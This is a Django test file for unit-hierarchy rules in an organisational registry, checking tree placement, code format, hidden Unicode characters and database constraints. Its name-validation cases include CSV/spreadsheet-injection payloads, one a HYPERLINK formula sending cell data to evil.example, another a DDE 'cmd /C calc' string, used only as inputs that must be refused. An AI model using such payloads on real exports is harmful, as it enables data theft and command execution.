"""The rules of a unit, in one place each, held by the model, its forms, the admin and the database:
its place in the tree (units.models.place_in_tree_error), the code's shape (UNIT_CODE_PATTERN), no
hidden characters in names and codes, no formula-like names, lengths checked before the database."""

import pytest
from django.core.exceptions import ValidationError
from django.db import IntegrityError, transaction
from django.urls import reverse

from units.models import Level, Unit, UnitType, place_in_tree_error

pytestmark = pytest.mark.django_db

BIDI = "\u202e"


def form_data(**values):
    data = {"parent_code": "330106001", "code": "330106001099", "name": "某单位", "short_name": "",
            "level": Level.VILLAGE, "unit_type": UnitType.COMMUNITY}
    data.update(values)
    return data


def create(client, **values):
    return client.post(reverse("units:create"), form_data(**values))


@pytest.fixture
def office(client, world):
    client.force_login(world.office_province)
    return client


# --- the place in the tree --------------------------------------------------------------------


@pytest.mark.parametrize("level, unit_type, parent, fits", [
    ("city", "committee", "province", True),          # a city under its province
    ("province", "organ", "province", True),          # a provincial department under the province
    ("province", "university", "organ", True),        # a provincial university under a department
    ("township", "street", "xihu", True),             # a street under its county
    ("village", "community", "street", True),         # a community under its street
    ("township", "other", "street", True),            # a township-level organisation under a street
    ("province", "institution", "street", False),     # a "province-level" high school under a street
    ("village", "village", "province", False),        # a village directly under the province
    ("county", "committee", "province", False),       # a county skipping its city
    ("city", "committee", "organ", False),            # a city under a department
    ("county", "organ", "hangzhou", False),           # a county's department hung from the city
    ("township", "committee", "xihu", False),         # a 党委 type below the county
    ("province", "village", None, False),             # a village type at the province level
    ("central", "committee", "province", False),      # nothing stands above the centre
])
def test_place_in_tree(world, level, unit_type, parent, fits):
    problem = place_in_tree_error(level, unit_type, getattr(world, parent) if parent else None)
    assert (problem is None) == fits, problem
    if problem:
        assert "一级" in problem and "_" not in problem  # labels, never internal codes


def test_a_province_level_school_under_a_street_is_refused_on_the_page(office, world):
    response = create(office, parent_code=world.street.code, code="330106001901", name="某某高级中学",
                      level=Level.PROVINCE, unit_type=UnitType.INSTITUTION)
    assert response.status_code == 200
    assert "应与上级单位同一层级" in response.content.decode()
    assert not Unit.objects.filter(code="330106001901").exists()


def test_a_village_directly_under_the_province_is_refused_on_the_page(office, world):
    response = create(office, parent_code=world.province.code, code="330000901", name="某村",
                      level=Level.VILLAGE, unit_type=UnitType.VILLAGE)
    assert response.status_code == 200
    assert "应直接隶属于乡镇、街道一级" in response.content.decode()
    assert not Unit.objects.filter(code="330000901").exists()


def test_a_fitting_unit_is_created(office, world):
    response = create(office)
    assert response.status_code == 302
    assert Unit.objects.get(code="330106001099").parent == world.street


def test_moving_a_unit_where_it_does_not_fit_is_refused(office, world):
    village = Unit.objects.create(code="330106001001", name="北山村", parent=world.street, level="village", unit_type="village")
    response = office.post(reverse("units:move", kwargs={"unit_id": village.pk}), {"parent_code": world.province.code})
    assert response.status_code == 200
    assert "应直接隶属于乡镇、街道一级" in response.content.decode()
    village.refresh_from_db()
    assert village.parent == world.street
    with pytest.raises(ValidationError):
        village.move_to(world.province)


def test_changing_a_level_that_would_strand_the_children_is_refused(client, world):
    """The centre made a province in the admin: the provinces under it would no longer fit."""
    client.force_login(world.superuser)
    response = client.post(reverse("admin:units_unit_change", args=[world.central.pk]), {
        "code": world.central.code, "name": world.central.name, "short_name": "", "level": Level.PROVINCE,
        "unit_type": UnitType.PARTY_COMMITTEE, "memberships-TOTAL_FORMS": "0", "memberships-INITIAL_FORMS": "0",
        "memberships-MIN_NUM_FORMS": "0", "memberships-MAX_NUM_FORMS": "1000",
    })
    assert response.status_code == 200
    assert "下级单位“浙江省”将不符合层级规则" in response.content.decode()
    world.central.refresh_from_db()
    assert world.central.level == Level.CENTRAL


def test_an_edit_that_breaks_the_place_under_the_parent_is_refused(office, world):
    response = office.post(reverse("units:edit", kwargs={"unit_id": world.xihu.pk}), {
        "code": world.xihu.code, "name": world.xihu.name, "short_name": "", "level": Level.CITY,
        "unit_type": UnitType.PARTY_COMMITTEE,
    })
    assert response.status_code == 200
    assert "应直接隶属于省一级" in response.content.decode()
    world.xihu.refresh_from_db()
    assert world.xihu.level == Level.COUNTY


def test_the_admin_holds_the_same_rule(client, world):
    client.force_login(world.superuser)
    response = client.post(reverse("admin:units_unit_add"), {
        "code": "330106001902", "name": "某某高级中学", "short_name": "", "parent": world.street.pk,
        "level": Level.PROVINCE, "unit_type": UnitType.INSTITUTION, "memberships-TOTAL_FORMS": "0",
        "memberships-INITIAL_FORMS": "0", "memberships-MIN_NUM_FORMS": "0", "memberships-MAX_NUM_FORMS": "1000",
    })
    assert response.status_code == 200
    assert "应与上级单位同一层级" in response.content.decode()
    assert not Unit.objects.filter(code="330106001902").exists()


# --- codes and names --------------------------------------------------------------------------


@pytest.mark.parametrize("code", [",,,", "=1+1", "@SUM(1)", "-330106", "3301 06", "33010\u202e6", "330106\u200f",
                                  "3301\x0706", "330106,", "330106-", "３３０１０６"])
def test_codes_of_another_shape_are_refused(office, world, code):
    response = create(office, code=code)
    assert response.status_code == 200
    assert 'data-field-error="code"' in response.content.decode()
    assert not Unit.objects.filter(code=code.strip()).exists()


@pytest.mark.parametrize("name", ["=1+1", '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")', "@SUM(1+1)*cmd|' /C calc'!A0",
                                  "+1", "-1", "北山\u202e村", "\u2066北山村", "北山\u200e村", "北山\x85村", "北山\x1b村"])
def test_names_that_are_formulas_or_hide_characters_are_refused(office, world, name):
    response = create(office, name=name)
    assert response.status_code == 200
    assert 'data-field-error="name"' in response.content.decode()
    response = create(office, short_name=name)
    assert 'data-field-error="short_name"' in response.content.decode()
    assert not Unit.objects.filter(code="330106001099").exists()


def test_the_code_pattern_is_a_setting(office, world, settings):
    settings.UNIT_CODE_PATTERN = r"\d{6}(\d{3}){0,2}"
    settings.UNIT_CODE_RULE = "六位行政区划代码，可再加三位或六位"
    response = create(office, code="T000V000")
    assert "六位行政区划代码" in response.content.decode()
    assert create(office, code="330106001099").status_code == 302


def test_demo_and_fixture_codes_fit_the_default_pattern(world):
    from demo.unit_tree import unit_rows

    for code in [row.code for row in unit_rows()] + list(Unit.objects.values_list("code", flat=True)):
        Unit._meta.get_field("code").run_validators(code)


def test_a_name_too_long_is_refused_before_the_database(office, world):
    response = create(office, name="长" * 5000)
    assert response.status_code == 200
    assert 'data-field-error="name"' in response.content.decode()


# --- the database holds the rules of one row --------------------------------------------------


@pytest.mark.parametrize("fields, constraint", [
    ({"level": "province", "unit_type": "village"}, "unit_type_fits_level"),
    ({"level": "galaxy", "unit_type": "organ"}, "unit_level_and_type_known"),
    ({"code": "=1+1"}, "unit_code_not_formula"),
    ({"name": ""}, "unit_code_and_name_given"),
])
def test_named_constraints_refuse_rows_that_bypass_the_forms(world, fields, constraint):
    values = {"code": "330000-77", "name": "某厅", "parent": world.province, "level": "province", "unit_type": "organ"}
    values.update(fields)
    with pytest.raises(IntegrityError) as refused, transaction.atomic():
        Unit.objects.create(**values)
    assert constraint in str(refused.value) or "CHECK" in str(refused.value).upper()
    found = {c.name: c for c in Unit._meta.constraints}
    assert constraint in found and "_" not in str(found[constraint].violation_error_message)


def test_a_type_given_to_ticked_units_must_fit_where_each_stands(office, world):
    """The list's type assignment: a county made a "village" would break the tree (and the database's
    rule): refused with the reason, nothing changed."""
    response = office.post(reverse("units:assign"), {"units": [world.xihu.pk, world.street.pk], "unit_type": UnitType.VILLAGE},
                           follow=True)
    assert response.redirect_chain[0][0] == reverse("units:list")  # back to the list, the reason above it
    text = response.content.decode()
    assert "西湖区" in text and "“村”只能是村、社区一级的单位" in text
    world.xihu.refresh_from_db()
    assert world.xihu.unit_type == UnitType.PARTY_COMMITTEE
    response = office.post(reverse("units:assign"), {"units": [world.street.pk], "unit_type": UnitType.TOWNSHIP})
    assert response.status_code == 302
    world.street.refresh_from_db()
    assert world.street.unit_type == UnitType.TOWNSHIP
